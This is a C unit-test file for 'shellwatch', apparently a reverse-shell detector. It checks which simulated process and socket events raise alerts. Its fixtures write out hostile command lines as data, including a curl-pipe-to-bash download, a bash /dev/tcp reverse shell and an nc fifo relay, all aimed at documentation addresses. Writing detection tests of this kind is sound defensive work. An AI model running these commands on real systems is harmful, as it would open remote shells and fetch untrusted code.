/* test_correlate.c: the live detection logic of `shellwatch run` (user/correlate.c) on hand-built
 * wire records: which signals fire, one alert per remote shell, holds and absorption, and what
 * must not alert (an ssh-like login, a plain command). */
#include <arpa/inet.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include "correlate.h"
#include "live.h"
#include "score.h"
#include "tap.h"

#define MAX_ALERTS 8

static struct alert got[MAX_ALERTS];
static unsigned ngot;
static uint64_t clock_ns = 1000000000;

static void collect(void *ctx, struct alert *a)
{
	(void)ctx;
	if (ngot < MAX_ALERTS)
		got[ngot] = *a;
	ngot++;
}

static struct correlate *fresh(bool scoring)
{
	static struct ruleset rs;
	char err[256];
	struct correlate_opts o = { .rules = &rs, .mode = ENGINE_INCREMENTAL, .hold_ns = 200000000,
				    .on_alert = collect };

	if (!rs.nrules && rules_load_default(&rs, err, sizeof(err)))
		return NULL;
	if (scoring) {
		o.model = score_model_default();
		o.threshold = o.model ? o.model->threshold : 0.5;
	}
	ngot = 0;
	return correlate_new(&o);
}

static void hdr(struct wire_hdr *h, uint16_t type, uint16_t call, uint32_t size, uint32_t pid,
		uint32_t ppid, const char *comm)
{
	memset(h, 0, sizeof(*h));
	h->type = type, h->call = call, h->size = size;
	h->ktime = (clock_ns += 1000);
	h->pid = h->tid = pid, h->ppid = ppid;
	strncpy(h->comm, comm, sizeof(h->comm) - 1);
}

static void feed(struct correlate *c, const void *raw, size_t size)
{
	static char scratch[16384];
	struct sw_event ev;

	if (live_decode(raw, size, &ev, scratch, sizeof(scratch)) == 0)
		correlate_event(c, &ev, raw);
}

static void inet(struct wire_fd *f, const char *ip, uint16_t port)
{
	memset(f, 0, sizeof(*f));
	f->kind = WIRE_FD_SOCK, f->family = AF_INET, f->pport = port, f->lport = 40000;
	inet_pton(AF_INET, ip, f->paddr);
	inet_pton(AF_INET, "127.0.0.1", f->laddr);
}

static void sock_ev(struct correlate *c, uint16_t call, uint32_t pid, int fd, int ret,
		    const char *ip, uint16_t port)
{
	struct wire_sock_ev s;

	hdr(&s.hdr, WIRE_SOCK, call, sizeof(s), pid, 1, "x");
	s.fd = fd, s.ret = ret;
	inet(&s.sock, ip, port);
	feed(c, &s, sizeof(s));
}

static void dup2_ev(struct correlate *c, uint32_t pid, int oldfd, int newfd)
{
	struct wire_dup d = { 0 };

	hdr(&d.hdr, WIRE_DUP, WIRE_C_DUP2, sizeof(d), pid, 1, "x");
	d.oldfd = oldfd, d.newfd = newfd, d.ret = newfd, d.sock = 1;
	feed(c, &d, sizeof(d));
}

static void fork_ev(struct correlate *c, uint32_t parent, uint32_t child)
{
	struct wire_fork f = { 0 };

	hdr(&f.hdr, WIRE_FORK, WIRE_C_FORK, sizeof(f), parent, 1, "x");
	f.child = child;
	feed(c, &f, sizeof(f));
}

/* exec of argv (spaces become the NUL separators) with stdio fds (NULL: from stdio_kind/ip). */
static void exec_ev_fds(struct correlate *c, uint32_t pid, uint32_t ppid, const char *exe,
			const char *argv, const struct wire_fd *fds, uint8_t stdio_kind,
			const char *ip, uint16_t port)
{
	static struct wire_exec w;
	size_t n = strlen(argv) + 1;

	memset(&w, 0, sizeof(w));
	hdr(&w.hdr, WIRE_EXEC, WIRE_C_EXECVE, sizeof(w), pid, ppid, strrchr(exe, '/') + 1);
	snprintf(w.exe, sizeof(w.exe), "%s", exe);
	w.exe_len = (uint16_t)(strlen(exe) + 1);
	memcpy(w.argv, argv, n);
	for (size_t i = 0; i < n; i++)
		if (w.argv[i] == ' ')
			w.argv[i] = '\0';
	w.argv_len = (uint32_t)n;
	for (int i = 0; i < 3; i++) {
		if (fds)
			w.fds[i] = fds[i];
		else if (ip)
			inet(&w.fds[i], ip, port);
		else
			w.fds[i].kind = stdio_kind;
	}
	feed(c, &w, sizeof(w));
}

static void exec_ev(struct correlate *c, uint32_t pid, uint32_t ppid, const char *exe,
		    const char *argv, uint8_t stdio_kind, const char *ip, uint16_t port)
{
	exec_ev_fds(c, pid, ppid, exe, argv, NULL, stdio_kind, ip, port);
}

static struct wire_fd pipe_fd(uint8_t kind, uint64_t ino)
{
	struct wire_fd f = { .kind = kind };

	f.ino = ino, f.dev = kind == WIRE_FD_PIPE ? 13 : 0x1a;
	return f;
}

static uint64_t mono(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000ull + (uint64_t)ts.tv_nsec;
}

/* python -c 'connect; dup2 x3; subprocess sh': one alert, on the shell, with the peer. */
static void test_reverse_shell_child(void)
{
	struct correlate *c = fresh(false);

	CHECK(c != NULL);
	exec_ev(c, 100, 1, "/usr/bin/python3", "python3 x.py", WIRE_FD_TTY, NULL, 0);
	sock_ev(c, WIRE_C_CONNECT, 100, 3, 0, "10.1.2.3", 4444);
	for (int fd = 0; fd < 3; fd++)
		dup2_ev(c, 100, 3, fd);
	fork_ev(c, 100, 101);
	exec_ev(c, 101, 100, "/bin/sh", "sh -i", 0, "10.1.2.3", 4444);
	CHECKF(ngot == 1, "%u alerts", ngot);
	CHECK(got[0].pid == 101 && got[0].ppid == 100);
	CHECKF((got[0].signals & (SIG_RULE | SIG_STDIO_SOCKET | SIG_PARENT_SOCKET)) ==
		       (SIG_RULE | SIG_STDIO_SOCKET | SIG_PARENT_SOCKET), "signals %x", got[0].signals);
	CHECK(got[0].has_peer && got[0].peer.pport == 4444);
	CHECK(!strcmp(got[0].cmd, "sh -i") && !strcmp(got[0].exe, "/bin/sh"));
	CHECK(got[0].nmatched >= 5);
	/* The attacker's commands run by that shell are the same episode. */
	fork_ev(c, 101, 102);
	exec_ev(c, 102, 101, "/usr/bin/id", "id", 0, "10.1.2.3", 4444);
	CHECKF(ngot == 1, "%u alerts after the shell's child", ngot);
	correlate_free(c);
}

/* python pty.spawn: the shell's stdio is a terminal, its parent's is the socket. */
static void test_pty_shell(void)
{
	struct correlate *c = fresh(false);

	exec_ev(c, 200, 1, "/usr/bin/python3", "python3 p.py", WIRE_FD_TTY, NULL, 0);
	sock_ev(c, WIRE_C_CONNECT, 200, 3, -115, "10.9.9.9", 53);
	for (int fd = 0; fd < 3; fd++)
		dup2_ev(c, 200, 3, fd);
	fork_ev(c, 200, 201);
	exec_ev(c, 201, 200, "/bin/bash", "bash", WIRE_FD_TTY, NULL, 0);
	CHECKF(ngot == 1, "%u alerts", ngot);
	CHECK(ngot && got[0].pid == 201 && (got[0].signals & SIG_PARENT_SOCKET));
	CHECK(ngot && !(got[0].signals & SIG_STDIO_SOCKET) && got[0].peer.pport == 53);
	correlate_free(c);
}

/* An sshd-like parent that accepted a connection starts a login shell on a terminal: no alert. */
static void test_login_is_quiet(void)
{
	struct correlate *c = fresh(true);

	exec_ev(c, 300, 1, "/usr/sbin/sshd", "sshd: alice [priv]", WIRE_FD_OTHER, NULL, 0);
	sock_ev(c, WIRE_C_ACCEPT4, 300, 3, 4, "192.0.2.7", 51000);
	fork_ev(c, 300, 301);
	exec_ev(c, 301, 300, "/bin/bash", "-bash", WIRE_FD_TTY, NULL, 0);
	fork_ev(c, 301, 302);
	exec_ev(c, 302, 301, "/usr/bin/ls", "ls -la", WIRE_FD_TTY, NULL, 0);
	correlate_tick(c, mono() + 1000000000ull);
	CHECKF(ngot == 0, "%u alerts", ngot);
	correlate_free(c);
	CHECKF(ngot == 0, "%u alerts after free", ngot);
}

/* A malicious-looking command alone is held, then reported as suspicious once. */
static void test_score_only_is_held(void)
{
	struct correlate *c = fresh(true);
	uint64_t t0 = mono();

	if (!score_model_default()) {
		CHECKF(0, "no embedded model");
		return;
	}
	exec_ev(c, 400, 1, "/bin/bash", "bash -c curl -s http://203.0.113.5:8080/x.sh | bash",
		WIRE_FD_TTY, NULL, 0);
	correlate_tick(c, t0);
	CHECKF(ngot == 0, "%u alerts before the hold ran out", ngot);
	correlate_tick(c, t0 + 1000000000ull);
	CHECKF(ngot == 1, "%u alerts after the hold", ngot);
	CHECK(ngot && got[0].pid == 400 && got[0].signals == SIG_SCORE && got[0].score >= 0);
	correlate_free(c);
}

/* bash -c 'bash -i >& /dev/tcp/..': the suspicious parent is absorbed by the confirmed child. */
static void test_confirmed_absorbs_held(void)
{
	struct correlate *c = fresh(true);

	exec_ev(c, 500, 1, "/bin/bash", "bash -c bash -i >& /dev/tcp/198.51.100.1/9001 0>&1",
		WIRE_FD_TTY, NULL, 0);
	fork_ev(c, 500, 501);
	sock_ev(c, WIRE_C_CONNECT, 501, 3, 0, "198.51.100.1", 9001);
	for (int fd = 0; fd < 3; fd++)
		dup2_ev(c, 501, 3, fd);
	exec_ev(c, 501, 500, "/bin/bash", "bash -i", 0, "198.51.100.1", 9001);
	correlate_tick(c, mono() + 1000000000ull);
	CHECKF(ngot == 1, "%u alerts", ngot);
	CHECK(ngot && got[0].pid == 501 && (got[0].signals & SIG_PARENT_SCORE) &&
	      (got[0].signals & SIG_STDIO_SOCKET));
	CHECK(ngot && !strcmp(got[0].pcmd, "bash -c bash -i >& /dev/tcp/198.51.100.1/9001 0>&1"));
	correlate_free(c);
	CHECKF(ngot == 1, "%u alerts after free", ngot);
}

static void test_exit_frees(void)
{
	struct correlate *c = fresh(false);
	struct correlate_stats st;
	struct wire_exit e = { 0 };

	for (uint32_t pid = 600; pid < 700; pid++) {
		fork_ev(c, 1, pid);
		exec_ev(c, pid, 1, "/bin/true", "true", WIRE_FD_PIPE, NULL, 0);
		hdr(&e.hdr, WIRE_EXIT, WIRE_C_EXIT, sizeof(e), pid, 1, "true");
		feed(c, &e, sizeof(e));
	}
	correlate_stats(c, &st);
	CHECKF(st.procs.live == 0 && st.procs.max_live >= 1, "live %llu max %llu",
	       (unsigned long long)st.procs.live, (unsigned long long)st.procs.max_live);
	CHECK(st.execs == 100 && ngot == 0);
	correlate_free(c);
}

/* Processes found in /proc at start-up: a reverse shell already running is alerted once (not again
 * for its child); a shell on a terminal is not. */
static void test_seeded_processes(void)
{
	struct correlate *c = fresh(false);
	struct procscan_entry e;

	memset(&e, 0, sizeof(e));
	e.pid = 800, e.ppid = 1, e.uid = 1000;
	snprintf(e.comm, sizeof(e.comm), "bash");
	snprintf(e.cmd, sizeof(e.cmd), "bash -i");
	snprintf(e.exe, sizeof(e.exe), "/usr/bin/bash");
	for (int i = 0; i < 3; i++)
		inet(&e.stdio[i], "192.0.2.9", 443);
	correlate_seed(c, &e);
	CHECKF(ngot == 1, "%u alerts", ngot);
	CHECK(ngot && got[0].pid == 800 && got[0].uid == 1000 && got[0].signals == SIG_STDIO_SOCKET);
	CHECK(ngot && got[0].peer.pport == 443 && !strcmp(got[0].exe, "/usr/bin/bash"));
	e.pid = 801, e.ppid = 800;                     /* its child, also on the socket */
	correlate_seed(c, &e);
	CHECKF(ngot == 1, "%u alerts after the child", ngot);

	e.pid = 900, e.ppid = 1;                       /* another tree, another alert */
	snprintf(e.cmd, sizeof(e.cmd), "python3 x.py");
	correlate_seed(c, &e);
	CHECKF(ngot == 2, "%u alerts", ngot);
	for (int i = 0; i < 3; i++)
		memset(&e.stdio[i], 0, sizeof(e.stdio[i])), e.stdio[i].kind = WIRE_FD_TTY;
	snprintf(e.cmd, sizeof(e.cmd), "-bash");
	e.pid = 950, e.ppid = 1;                       /* an unrelated terminal shell: quiet */
	correlate_seed(c, &e);
	CHECKF(ngot == 2, "%u alerts after a terminal shell", ngot);
	correlate_free(c);
}

/* sh -i < fifo | nc host port > fifo, with a renamed nc and the connect before or after the shell's
 * exec: a pipe-relay alert on the shell. curl | sh (one way) is not one. */
static void test_pipe_relay(void)
{
	struct wire_fd tty = { .kind = WIRE_FD_TTY };
	struct wire_fd fifo = pipe_fd(WIRE_FD_FIFO, 777), pipe = pipe_fd(WIRE_FD_PIPE, 4242);
	struct wire_fd sh_fds[3] = { fifo, pipe, pipe }, nc_fds[3] = { pipe, fifo, tty };

	for (int connect_first = 0; connect_first < 2; connect_first++) {
		struct correlate *c = fresh(false);

		if (connect_first) {
			exec_ev_fds(c, 1002, 1000, "/tmp/x", "x 203.0.113.9 4444", nc_fds, 0, NULL, 0);
			sock_ev(c, WIRE_C_CONNECT, 1002, 3, 0, "203.0.113.9", 4444);
			exec_ev_fds(c, 1001, 1000, "/bin/sh", "/bin/sh -i", sh_fds, 0, NULL, 0);
		} else {
			exec_ev_fds(c, 1001, 1000, "/bin/sh", "/bin/sh -i", sh_fds, 0, NULL, 0);
			exec_ev_fds(c, 1002, 1000, "/tmp/x", "x 203.0.113.9 4444", nc_fds, 0, NULL, 0);
			CHECKF(ngot == 0, "%u alerts before the connect", ngot);
			sock_ev(c, WIRE_C_CONNECT, 1002, 3, 0, "203.0.113.9", 4444);
		}
		CHECKF(ngot == 1, "connect_first=%d: %u alerts", connect_first, ngot);
		CHECK(ngot && got[0].pid == 1001 && (got[0].signals & SIG_PIPE_RELAY));
		CHECK(ngot && got[0].has_peer && got[0].peer.pport == 4444);
		correlate_free(c);
	}

	struct correlate *c = fresh(false);
	struct wire_fd curl_fds[3] = { tty, pipe, tty }, sh1_fds[3] = { pipe, tty, tty };

	exec_ev_fds(c, 1011, 1010, "/usr/bin/curl", "curl -s http://203.0.113.9/i", curl_fds, 0, NULL, 0);
	exec_ev_fds(c, 1012, 1010, "/bin/sh", "sh", sh1_fds, 0, NULL, 0);
	sock_ev(c, WIRE_C_CONNECT, 1011, 3, 0, "203.0.113.9", 80);
	CHECKF(ngot == 0, "curl | sh: %u alerts", ngot);
	correlate_free(c);
}

int main(void)
{
	RUN(test_reverse_shell_child);
	RUN(test_pty_shell);
	RUN(test_login_is_quiet);
	RUN(test_score_only_is_held);
	RUN(test_confirmed_absorbs_held);
	RUN(test_exit_frees);
	RUN(test_seeded_processes);
	RUN(test_pipe_relay);
	return tap_done();
}
